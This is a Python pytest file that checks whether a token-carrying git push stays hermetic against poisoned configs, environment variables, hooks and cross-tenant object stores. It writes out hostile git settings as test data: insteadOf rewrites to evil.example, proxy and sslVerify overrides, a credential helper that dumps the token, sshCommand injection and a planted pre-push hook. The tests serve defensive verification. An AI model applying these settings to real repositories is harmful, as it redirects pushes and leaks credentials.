"""The git that carries the owner's token is hermetic (SPEC R9.7): a poisoned repository config, a
poisoned home, XDG and system config and a poisoned worker environment change nothing — the push goes only to
the provider, a proxy sees nothing, no program runs, no helper receives the token."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from actions import execution
from actions.tests.exec_fixtures import OWNER_TOKEN, git
from actions.tests.git_http_server import GitHttpRemote
from actions.tests.poisoned_git import ConnectionRecorder, poison_config, poison_environment
from containers import git_hermetic


@pytest.fixture
def repo(team) -> Path:
    root = Path(team.project.root())
    git(root, "init", "-q", "-b", "main")
    (root / "README.md").write_text("hello\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "initial")
    return root


def run(action):
    execution.execute(action.id)
    action.refresh_from_db()
    return action


def _markers(folder: Path) -> list[str]:
    markers = folder / "markers"
    return sorted(p.name for p in markers.iterdir()) if markers.exists() else []


def _files_holding(folder: Path, secret: str) -> list[str]:
    hits = []
    for path in folder.rglob("*"):
        if path.is_file() and not path.is_symlink():
            try:
                if secret.encode() in path.read_bytes():
                    hits.append(str(path))
            except OSError:
                pass
    return hits


def test_a_push_with_every_config_and_the_environment_poisoned_goes_only_to_the_provider(
    team, repo, tmp_path, owner_token, make_action
):
    served = tmp_path / "served"
    served.mkdir()
    git(served, "init", "-q", "--bare", "app.git")
    owner_token("github", "https://api.github.example")
    poison = tmp_path / "poison"
    poison.mkdir()
    with (
        GitHttpRemote(served, OWNER_TOKEN) as provider,
        ConnectionRecorder() as proxy,
        ConnectionRecorder() as evil,
    ):
        base = provider.url("")
        team.project.git_remote_url = provider.url("app.git")
        team.project.git_remote_set_by = team.project.workspace.owner  # the owner's remote
        team.project.save()
        # The repository's own config, as an agent's terminal command could write it...
        poison_config(repo / ".git" / "config", poison, proxy=proxy.url, evil=evil.url, remote_base=base)
        hook = repo / ".git" / "hooks" / "pre-push"
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(f"#!/bin/sh\ntouch {poison}/markers/repo-pre-push\n")
        hook.chmod(0o755)
        action = make_action(team.project, "git_push", {"branch": "main"}, status="auto_approved")
        # ...and the worker's home, XDG and "system" config and environment, as a neighbour could leave them
        # (for the push only: the test's own git below runs in the test's environment).
        with pytest.MonkeyPatch.context() as worker_env:
            home = poison_environment(worker_env, poison, proxy=proxy.url)
            for config in (
                home / ".gitconfig",
                home / ".config" / "git" / "config",
                poison / "system.gitconfig",
            ):
                poison_config(config, poison, proxy=proxy.url, evil=evil.url, remote_base=base)
            worker_env.setenv("GIT_CONFIG_SYSTEM", str(poison / "system.gitconfig"))
            worker_env.setenv("GIT_CONFIG_GLOBAL", str(home / ".gitconfig"))
            action = run(action)

    assert action.status == "executed", action.result
    assert git(served / "app.git", "rev-parse", "refs/heads/main") == action.result["sha"]
    assert provider.auth_seen and provider.auth_seen[-1] is True  # the provider, and only it, got the token
    assert provider.argv_leaks == []
    assert proxy.seen == []  # no proxy, from any config or variable, saw a byte
    assert evil.seen == []  # no URL rewrite sent the push elsewhere
    assert _markers(poison) == []  # no hook, fsmonitor, ssh command, helper, askpass, trace or exec path ran
    assert _files_holding(tmp_path, OWNER_TOKEN) == []


def test_the_poison_is_real_a_plain_git_with_that_environment_goes_to_the_proxy(tmp_path, monkeypatch):
    """Control: the same home config and variables do steer an ordinary git, so the test above means it."""
    poison = tmp_path / "poison"
    poison.mkdir()
    with ConnectionRecorder() as proxy, ConnectionRecorder() as evil:
        home = poison_environment(monkeypatch, poison, proxy=proxy.url)
        monkeypatch.delenv("GIT_EXEC_PATH")  # let the ordinary git find its helpers
        poison_config(
            home / ".gitconfig", poison, proxy=proxy.url, evil=evil.url, remote_base="http://x.invalid/"
        )
        subprocess.run(
            ["git", "ls-remote", "http://provider.invalid/app.git"], capture_output=True, timeout=60
        )
    assert proxy.seen and b"provider.invalid" in proxy.seen[0]


def test_the_token_git_refuses_a_repository_config_carrying_anything_clone_did_not_write(tmp_path):
    """-c cannot remove URL-scoped sections, so the repository the token-git reads is checked key by key."""
    with git_hermetic.private_home() as home:
        source = tmp_path / "w"
        git(tmp_path, "init", "-q", "-b", "main", str(source))
        git(source, "commit", "-q", "--allow-empty", "-m", "x")
        mirror = tmp_path / "m.git"
        done = git_hermetic.run(
            tmp_path, home, "clone", "-q", "--bare", "--shared", "--template=", "--", str(source), str(mirror),
            protocol="file", timeout=60,
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert git_hermetic.unexpected_config(mirror, home, timeout=60) == []  # what clone writes passes
        for key, value in [
            ("url.http://evil.example/.insteadOf", "https://github.com/"),
            ("url.http://evil.example/.pushInsteadOf", "https://github.com/"),
            ("http.https://github.com/.proxy", "http://127.0.0.1:9"),
            ("http.https://github.com/.sslVerify", "false"),
            ("credential.https://github.com.helper", "!cat > /tmp/x"),
            ("include.path", "/tmp/evil"),
            ("remote.origin.pushurl", "http://evil.example/x.git"),
            ("core.sshCommand", "touch /tmp/x"),
        ]:
            subprocess.run(["git", "config", "--file", str(mirror / "config"), key, value], check=True)
            assert key.lower() in git_hermetic.unexpected_config(mirror, home, timeout=60), key
            subprocess.run(["git", "config", "--file", str(mirror / "config"), "--unset", key], check=True)


def test_the_hermetic_environment_keeps_nothing_of_the_workers(monkeypatch, tmp_path):
    for name in ("http_proxy", "GIT_SSH_COMMAND", "GIT_ASKPASS", "GIT_CONFIG_PARAMETERS", "GIT_DIR", "NETRC"):
        monkeypatch.setenv(name, "poison")
    env = git_hermetic.hermetic_env(tmp_path)
    assert "poison" not in env.values()
    assert env["HOME"] == str(tmp_path) and env["GIT_CONFIG_GLOBAL"] == "/dev/null"
    assert env["GIT_CONFIG_NOSYSTEM"] == "1" and env["XDG_CONFIG_HOME"].startswith(str(tmp_path))
    argv = git_hermetic.hermetic_argv("push", protocol="https")
    for setting in ("http.proxy=", "http.sslVerify=true", "credential.helper=", "core.hooksPath=/dev/null",
                    "core.fsmonitor=false", "core.sshCommand=", "protocol.allow=never", "protocol.https.allow=always"):  # fmt: skip
        assert setting in argv
    with git_hermetic.private_home() as home:
        assert oct(home.stat().st_mode & 0o777) == "0o700" and not any(home.iterdir())
    assert not home.exists()
    # no program is taken from a folder tenants write, however the worker's PATH was set
    monkeypatch.setenv("PATH", f"{tmp_path}/tenant/bin:relative/bin:/usr/bin:/bin")
    assert git_hermetic.hermetic_env(tmp_path, untrusted=[tmp_path / "tenant"])["PATH"] == "/usr/bin:/bin"


@pytest.mark.parametrize("how", ["alternates", "gitfile"])
def test_a_push_never_carries_objects_from_outside_the_project(team, repo, tmp_path, make_action, how):
    """The push reads the worktree's objects: its git folder and every alternate must lie inside the project,
    or another tenant's objects could ride along."""
    other = Path(team.other_project.root())
    git(other, "init", "-q", "-b", "main")
    (other / "secret.txt").write_text("the other tenant's secret\n")
    git(other, "add", "-A")
    git(other, "commit", "-q", "-m", "theirs")
    bare = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(bare))
    team.project.git_remote_url = str(bare)
    team.project.save()
    if how == "alternates":
        (repo / ".git" / "objects" / "info" / "alternates").write_text(f"{other}/.git/objects\n")
    else:
        wt = repo / "wt"
        wt.mkdir()
        (wt / ".git").write_text(f"gitdir: {other}/.git\n")
    payload = {"branch": "main"} if how == "alternates" else {"branch": "main", "cwd": "wt"}
    action = run(make_action(team.project, "git_push", payload))
    assert action.status == "failed" and action.result["error"]["code"] == "git_objects_outside_project"
    assert git(bare, "for-each-ref") == ""
